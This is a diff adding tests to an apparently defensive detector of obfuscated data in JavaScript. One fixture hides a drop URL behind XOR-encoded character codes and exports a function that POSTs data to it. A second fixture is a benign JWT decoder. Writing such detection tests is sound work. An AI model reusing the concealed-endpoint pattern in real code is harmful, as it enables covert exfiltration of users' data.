@@ -59,3 +59,33 @@ def test_decode_shortcut_label_getter_is_silent(run_all: RunDetectors) -> None:
     )
     findings, _ = run_all(src.encode())
     assert [f for f in findings if f.category == "obfuscated-data"] == []
+
+
+def test_decode_getter_of_a_class_built_without_arguments(run_all: RunDetectors) -> None:
+    # js-obfuscated-data: the constructor stores the codes on ``this``; a getter decodes them.
+    src = (
+        "class Sink {\n"
+        f"  constructor() {{ this.k = {_codes('https://drop.ravenmere.net/v3/e')}; }}\n"
+        "  get url() {\n"  # line 3
+        "    return this.k.map((c, i) => String.fromCharCode(c ^ ((i * 5 + 3) & 0x7f))).join('');\n"
+        "  }\n"
+        "}\n"
+        "module.exports = (b) => fetch(new Sink().url, { method: 'POST', body: b });\n"
+    )
+    findings, _ = run_all(src.encode())
+    (finding,) = [f for f in findings if f.category == "obfuscated-data"]
+    assert finding.location.line == 3
+    assert finding.decoded == ("https://drop.ravenmere.net/v3/e",)
+
+
+def test_decode_getter_over_constructor_arguments_is_silent(run_all: RunDetectors) -> None:
+    # ok: the getter decodes what the caller passed to the constructor, not data of the file.
+    src = (
+        "class Token {\n"
+        "  constructor(raw) { this.raw = raw; this.pad = 'ignored-constant-text'; }\n"
+        "  get claims() { return JSON.parse(atob(this.raw.split('.')[1])); }\n"
+        "}\n"
+        "export const claimsOf = (t) => new Token(t).claims;\n"
+    )
+    findings, _ = run_all(src.encode())
+    assert [f for f in findings if f.category == "obfuscated-data"] == []
